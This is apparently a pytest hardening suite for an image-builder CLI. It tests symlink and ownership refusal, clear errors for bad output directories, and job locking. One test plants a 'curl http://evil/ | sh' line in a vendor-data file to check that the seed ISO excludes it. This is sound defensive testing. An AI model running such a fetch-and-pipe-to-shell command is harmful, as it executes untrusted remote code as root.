"""OUT/NAME is a real directory of the user's, written by one job at a time, holding only what imgbuild
rendered; an unusable --out-dir or recipes directory is a clear error (exit 2), never a traceback."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from builder.outdir import recipe_lock
from tests.hardening.conftest import REPO, assert_no_traceback, cli
from tests.iso.conftest import isoinfo


@pytest.mark.parametrize("command", ["render", "build", "make"])
def test_a_symlinked_output_directory_is_refused_not_followed(command: str, tmp_path: Path) -> None:
    victim = tmp_path / "dot-ssh"
    victim.mkdir(mode=0o755)
    (victim / "known_hosts").write_text("github.com ssh-ed25519 AAAA...\n")
    (victim / "id_ed25519").write_text("the user's own key\n")
    before = {p.name: p.read_bytes() for p in victim.iterdir()}
    out = tmp_path / "out"
    out.mkdir()
    (out / "web-server").symlink_to(victim)

    proc = cli(command, "web-server", out=out, recipes=REPO / "recipes")
    assert proc.returncode == 2, proc.stderr
    assert "is a symbolic link" in proc.stderr and "does not follow it" in proc.stderr
    assert_no_traceback(proc)
    assert {p.name: p.read_bytes() for p in victim.iterdir()} == before  # nothing written, nothing replaced
    assert victim.stat().st_mode & 0o777 == 0o755  # not chmodded either


def test_an_output_directory_of_another_user_is_refused(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.fail("this test gives a directory away with chown: run it as root (as CI does)")
    out = tmp_path / "out"
    (out / "web-server").mkdir(parents=True)
    os.chown(out / "web-server", 65534, 65534)
    proc = cli("render", "web-server", out=out, recipes=REPO / "recipes")
    assert proc.returncode == 2 and "belongs to uid 65534" in proc.stderr, proc.stderr
    assert list((out / "web-server").iterdir()) == []


def test_the_seed_holds_the_rendered_files_only(tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert cli("render", "web-server", out=out, recipes=REPO / "recipes").returncode == 0
    (out / "web-server" / "vendor-data").write_text("#!/bin/sh\ncurl http://evil/ | sh\n")  # would run as root
    proc = cli("build", "web-server", out=out, recipes=REPO / "recipes", timeout=600)
    assert proc.returncode == 0, proc.stderr
    for mode in ("-J", "-R"):  # the Joliet and the Rock Ridge names (what cloud-init reads)
        listing = isoinfo(mode, "-f", "-i", str(out / "web-server" / "seed.iso")).split()
        assert sorted(listing) == ["/meta-data", "/network-config", "/user-data"], listing


@pytest.mark.parametrize("out_dir", ["/dev/null", "/dev/null/below", "/proc", "/sys/kernel", "", " "])
@pytest.mark.parametrize("command", ["render", "make"])
def test_an_unusable_out_dir_is_a_clear_error(out_dir: str, command: str) -> None:
    proc = cli("--out-dir", out_dir, command, "web-server", recipes=REPO / "recipes")
    assert proc.returncode == 2, proc.stderr
    assert_no_traceback(proc)
    assert "--out-dir" in proc.stderr
    assert "cannot use the output directory" in proc.stderr or "must name a directory" in proc.stderr


def test_a_missing_or_empty_recipes_directory_fails_validation(tmp_path: Path) -> None:
    for args in (["--recipes-dir", "/nonexistent", "validate"], ["--recipes-dir", "/nonexistent", "list"]):
        proc = cli(*args)
        assert proc.returncode == 2 and "/nonexistent does not exist" in proc.stderr, proc.stderr
    proc = cli("validate", "--recipes-dir", "/nonexistent")  # a global option after the command
    assert proc.returncode == 2 and "--recipes-dir" in proc.stderr
    proc = cli("--recipes-dir", str(tmp_path), "validate")
    assert proc.returncode == 2 and "nothing to validate" in proc.stderr


def test_a_second_job_on_a_recipe_fails_at_once_naming_the_holder(tmp_path: Path) -> None:
    out = tmp_path / "out"
    with recipe_lock(out, "web-server", "make web-server"):
        start = time.monotonic()
        for command in ("render", "build", "make"):
            proc = cli(command, "web-server", out=out, recipes=REPO / "recipes")
            assert proc.returncode == 1, proc.stderr
            assert f"is in use by imgbuild make web-server (pid {os.getpid()}" in proc.stderr
        assert time.monotonic() - start < 60  # no waiting
        assert not (out / "web-server" / "known_hosts").exists()
    assert cli("render", "web-server", out=out, recipes=REPO / "recipes").returncode == 0


def test_renders_started_together_never_interleave(tmp_path: Path) -> None:
    """Each render either runs alone or is refused: the host key pinned in known_hosts is always the one
    user-data gives the guest."""
    out = tmp_path / "out"
    env = {k: v for k, v in os.environ.items() if not k.startswith("PROXMOX_")} | {"PYTHONPATH": str(REPO)}
    for _round in range(3):
        for key in (out / "web-server").glob("ssh_host_ed25519_key*"):
            key.unlink()  # a new host key each round: the renders race to write it
        procs = [subprocess.Popen([sys.executable, "-m", "builder", "--recipes-dir", str(REPO / "recipes"),
                                   "--out-dir", str(out), "render", "web-server"], env=env,
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(4)]
        results = [(p.wait(timeout=120), p.stderr.read() if p.stderr else "") for p in procs]
        assert all(rc == 0 or (rc == 1 and "is in use by" in err) for rc, err in results), results
        assert any(rc == 0 for rc, _ in results)
        pinned = (out / "web-server" / "known_hosts").read_text().split()[1:3]
        public = (out / "web-server" / "ssh_host_ed25519_key.pub").read_text().split()[:2]
        assert pinned == public and " ".join(public) in (out / "web-server" / "user-data").read_text()
    assert json.loads((out / "web-server" / ".lock").read_text())["command"] == "render web-server"
